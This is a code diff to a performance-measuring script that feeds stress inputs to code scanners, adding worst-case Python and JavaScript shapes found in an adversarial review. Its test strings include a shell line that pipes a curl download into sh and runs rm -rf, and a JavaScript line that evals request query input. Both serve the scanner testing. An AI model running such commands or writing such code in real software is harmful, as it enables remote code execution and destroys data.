@@ -63,16 +63,49 @@ def real_source(chars: int) -> str:
     raise ValueError(f"no parseable prefix within {chars} characters")
 
 
-def hard_bodies(limit: int) -> dict[str, str]:
-    """Bodies at the content limit that stress the scanners rather than the parser."""
+def hard_bodies(limit: int) -> dict[str, tuple[str, str]]:
+    """Bodies of at most limit characters that stress the scanners rather than the parser, and
+    the shapes an adversarial review found costing seconds (docs/learnings/
+    worst-cases-found-by-review.md): name -> (content, context)."""
+    chain = "f" + "()" * 4_000 + "\n"  # a chain of about 10,000 calls no longer parses
+    depth = 190  # under CPython's limit of 200 nested brackets
+    loops = ("for (;;) { for (;;) { const y = a", "; eval(y); } }\n")
     return {
-        "one line of Python": ("x = " + " + ".join(["value"] * limit))[:limit],
-        "short statements": ("a = 1\n" * limit)[:limit],
-        "JavaScript-like": ('const x = eval(req.query.q + "`SELECT ${a}");\n' * limit)[:limit],
-        "shell-like": ("#!/bin/sh\n" + "curl -k -u a:b https://x | sh; rm -rf $X/* || :\n" * limit)[:limit],
-        "prose": ("The quick brown fox jumps over the lazy dog. " * limit)[:limit],
-        "deep brackets": ("(" * (limit // 2) + ")" * (limit // 2))[:limit],
+        "one line of Python": (("x = " + " + ".join(["value"] * limit))[:limit], ""),
+        "short statements": (("a = 1\n" * limit)[:limit], ""),
+        "JavaScript-like": (('const x = eval(req.query.q + "`SELECT ${a}");\n' * limit)[:limit], ""),
+        "shell-like": (
+            ("#!/bin/sh\n" + "curl -k -u a:b https://x | sh; rm -rf $X/* || :\n" * limit)[:limit],
+            "",
+        ),
+        "prose": (("The quick brown fox jumps over the lazy dog. " * limit)[:limit], ""),
+        "deep brackets": (("(" * (limit // 2) + ")" * (limit // 2))[:limit], ""),
+        "one name defined in one if": ("if c:\n" + " def x():0\n" * ((limit - 6) // 11), "file: x.py"),
+        "one name captured by match cases": (
+            _filled("match v:\n", lambda i: f" case[{i},x]:0\n", "", limit),
+            "file: x.py",
+        ),
+        "duplicated dict keys": (_filled("d = {", lambda i: f"a{i}:0,a{i}:1,", "}\n", limit), "file: x.py"),
+        "statements of chained calls": (chain * (limit // len(chain)), "file: x.py"),
+        "prints nested around arguments": (
+            "print(" * depth + "0," * ((limit - 7 * depth - 1) // 2) + ")" * depth + "\n",
+            "file: x.py",
+        ),
+        "a JS member chain in two loops": (
+            loops[0] + ".b" * ((limit - len(loops[0]) - len(loops[1])) // 2) + loops[1],
+            "file: x.js",
+        ),
     }
+
+
+def _filled(head: str, unit, tail: str, limit: int) -> str:
+    """head, then unit(0), unit(1)… as many as fit with tail in limit characters, then tail."""
+    parts, size, i = [head], len(head) + len(tail), 0
+    while size + len(part := unit(i)) <= limit:
+        parts.append(part)
+        size += len(part)
+        i += 1
+    return "".join(parts) + tail
 
 
 def measure(runs: int = 15) -> dict:
@@ -100,12 +133,12 @@ def measure(runs: int = 15) -> dict:
         n = runs if len(text) < 30_000 else max(5, runs // 3)
         for level in LEVELS:
             out["sweep"][level].append((round(len(text) / 1024, 2), round(median_ms(cell, level, n), 3)))
-    for name, text in hard_bodies(JUDGED_CHARS).items():
+    for name, (text, context) in hard_bodies(JUDGED_CHARS).items():
         out["hard"].append(
             {
                 "body": name,
                 "chars": len(text),
-                "ms": round(median_ms(Cell.create(content=text), "MACRO", 3), 1),
+                "ms": round(median_ms(Cell.create(content=text, context=context), "MACRO", 3), 1),
             }
         )
     return out
